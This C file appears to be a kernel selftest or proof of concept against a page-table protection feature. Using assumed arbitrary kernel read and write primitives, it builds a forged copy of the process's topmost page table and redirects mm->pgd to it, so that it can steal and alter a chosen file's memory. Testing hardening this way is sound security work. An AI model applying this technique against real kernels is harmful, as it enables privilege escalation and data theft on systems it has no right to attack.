// SPDX-License-Identifier: GPL-2.0-only
/*
 * Out of scope of protected page tables: have the attacker's own mm_struct
 * point to a topmost table in ordinary memory, a copy of the real one with an
 * entry more. No page table is written to.
 */
#define _GNU_SOURCE
#include <sched.h>
#include <signal.h>
#include <stddef.h>
#include <sys/wait.h>
#include <unistd.h>

#include "common.h"
#include "upper.h"

/* Pages of the attacker, among which there are some in a row. */
#define CANDIDATES	1024

/* Topmost tables of both address spaces of x86, each in two versions. */
#define MAX_PAGES	4

/* Finds @nr pages that lie in a row in physical memory, aligned as a whole. */
static void find_run(u64 *run[], size_t nr)
{
	size_t size = page_size(), i, j, found;
	char *mem = map_pages(NULL, CANDIDATES * size);
	static u64 phys[CANDIDATES];

	for (i = 0; i < CANDIDATES; i++) {
		mem[i * size] = 1;
		phys[i] = phys_of(mem + i * size);
	}
	for (i = 0; i < CANDIDATES; i++) {
		if (phys[i] % (nr * size))
			continue;
		for (found = 0; found < nr; found++) {
			for (j = 0; j < CANDIDATES; j++)
				if (phys[j] == phys[i] + found * size)
					break;
			if (j == CANDIDATES)
				break;
			run[found] = (u64 *)(mem + j * size);
		}
		if (found == nr)
			return;
	}
	die("no pages in a row");
}

/*
 * mm->pgd is looked at when the CPU comes from another address space. With one
 * CPU for both, the answer of another process is only there when it has run.
 */
static void switch_away(void)
{
	int ask[2], answer[2];
	cpu_set_t first;
	char c = 0;
	pid_t pid;

	CPU_ZERO(&first);
	CPU_SET(0, &first);
	if (sched_setaffinity(0, sizeof(first), &first))
		die_errno("staying on one CPU");
	if (pipe(ask) || pipe(answer))
		die_errno("pipe");
	pid = fork();
	if (pid < 0)
		die_errno("fork");
	if (!pid) {
		close(ask[1]);
		while (read(ask[0], &c, 1) == 1)
			if (write(answer[1], &c, 1) != 1)
				break;
		_exit(0);
	}
	close(ask[0]);
	if (write(ask[1], &c, 1) != 1 || read(answer[0], &c, 1) != 1)
		die_errno("waiting for another process");
	close(ask[1]);
	close(answer[0]);
	close(answer[1]);
	if (waitpid(pid, NULL, 0) != pid)
		die_errno("waitpid");
}

int main(int argc, char **argv)
{
	const struct kpkeys_vuln_info *info = vuln_info();
	u64 secret = vuln_file_phys(argc > 1 ? argv[1] : NULL);
	u64 span = 1UL << info->shift[KPKEYS_VULN_PGD];
	char *target = forged_target(KPKEYS_VULN_PGD);
	size_t size = page_size(), entries = size / sizeof(u64), i, page;
	char *before = map_pages(target - size, size);
	char *after = map_pages(target + span, size);
	u64 *run[MAX_PAGES], forged, offset;
	struct kpkeys_vuln_mm mm;
	struct kpkeys_vuln_entry e;

	/* All that is needed later has its tables before they are copied. */
	*before = 1;
	*after = 1;
	e = vuln_entry(KPKEYS_VULN_SELF, target, KPKEYS_VULN_PGD);
	if (e.value & ~info->sync)
		die("the entry is in use");
	forged = forge_tables(KPKEYS_VULN_PGD, target, secret) | info->table;
	mm = vuln_mm(before);
	if (mm.pages > MAX_PAGES)
		die("the topmost table is too large");
	find_run(run, mm.pages);

	/* It need not begin at that of a page. */
	offset = mm.pgd % size;
	for (page = 0; page < mm.pages; page++) {
		for (i = 0; i < entries; i++)
			run[page][i] = vuln_read(mm.pgd - offset + page * size +
						 i * sizeof(u64));
		run[page][e.addr % size / sizeof(u64)] = forged;
	}

	vuln_write(mm.addr, vuln_mm(run[0]).linear + offset);
	switch_away();
	sync_between(before, after);
	steal_and_alter(target);

	vuln_write(mm.addr, mm.pgd);
	switch_away();
	return 0;
}
